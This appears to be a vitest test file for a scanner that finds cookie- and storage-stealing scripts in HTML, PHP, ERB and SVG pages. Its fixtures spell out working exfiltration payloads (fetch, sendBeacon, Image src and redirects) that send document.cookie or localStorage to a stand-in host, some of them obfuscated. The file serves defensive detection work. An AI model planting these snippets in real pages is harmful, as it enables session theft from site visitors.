import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";
import { readPage } from "./page";

const THIEF = "fetch('https://stats.collect-it.io/c', { method: 'POST', body: document.cookie });";

test.each([
  ["a.html", `<!doctype html>\n<body>\n<script>\n${THIEF}\n</script>`, 4],
  ["a.html", `<body>\n<button onclick="${THIEF}">Go</button>`, 2],
  ["a.html", `<a\n href="javascript:${THIEF}">Go</a>`, 2],
  ["a.html", `<a href="java&#115;cript:${encodeURIComponent(THIEF)}">Go</a>`, 1],
  ["a.html", `<body>\n<iframe srcdoc="<script>${THIEF}</script>"></iframe>`, 2],
  [
    "a.html",
    `<script>let c = document.cookie;</script>\n<script>new Image().src = "https://stats.collect-it.io/p?" + c;</script>`,
    2,
  ],
  [
    "a.html",
    `<body onload="go()"><script>let c = document.cookie;\nfunction go() { fetch("https://stats.collect-it.io/p?" + c) }</script>`,
    2,
  ],
  ["a.html", `<script>navigator.sendBeacon("https://stats.collect-it.io/p", JSON.stringify(localStorage))</script>`, 1],
  ["a.php", `<?php $t = 1; ?>\n<script>\nconst total = <?= $t ?>;\n${THIEF}\n</script>`, 4],
  ["mail.erb", `<p><%= name %></p>\n<script>${THIEF}</script>`, 2],
  ["a.html", `<script>location.href = "https://stats.collect-it.io/p?" + btoa(document.cookie)</script>`, 1],
])("follows the scripts of %s: %s", async (path, text, line) => {
  expect(await found(path, text)).toStrictEqual([`block secret-exfiltration:${line}`]);
});

test("follows the scripts of a picture", async () => {
  const text = `<svg xmlns="http://www.w3.org/2000/svg" onload="go()">\n<script><![CDATA[\nfunction go() { ${THIEF} }\n]]></script></svg>`;
  expect(await found("a.svg", text)).toContain("block secret-exfiltration:3");
});

test.each([
  ["a.html", "<script>fetch('/api/items').then((r) => r.json()).then(show)</script>"],
  [
    "a.html",
    "<script>const t = localStorage.getItem('theme'); fetch('https://api.notes.io/t', { headers: { Authorization: localStorage.getItem('token') } })</script>",
  ],
  [
    "a.html",
    "<script>const csrf = document.cookie.match(/csrf=([^;]+)/)[1]; fetch('/save', { method: 'POST', headers: { 'X-CSRF': csrf } })</script>",
  ],
  ["a.html", `<script type="application/json">{"run": "${THIEF}"}</script>`],
  ["a.html", '<button onclick="toggle(\'menu\')">Menu</button><script src="https://cdn.jsdelivr.net/npm/d3"></script>'],
])("has nothing to say of %s: %s", async (path, text) => {
  expect(await found(path, text)).toStrictEqual([]);
});

test("keeps the lines of the page and reads nothing else", () => {
  expect(readPage("a.html", "<p>\n<script>\na()\n</script>\n<script>b()</script>")).toStrictEqual({
    code: "\na()\n\nb()",
    lines: [2, 3, 4, 5],
  });
  expect(readPage("a.html", "<p>hello</p>")).toBeNull();
  expect(readPage("a.md", "<script>a()</script>")).toBeNull();
});
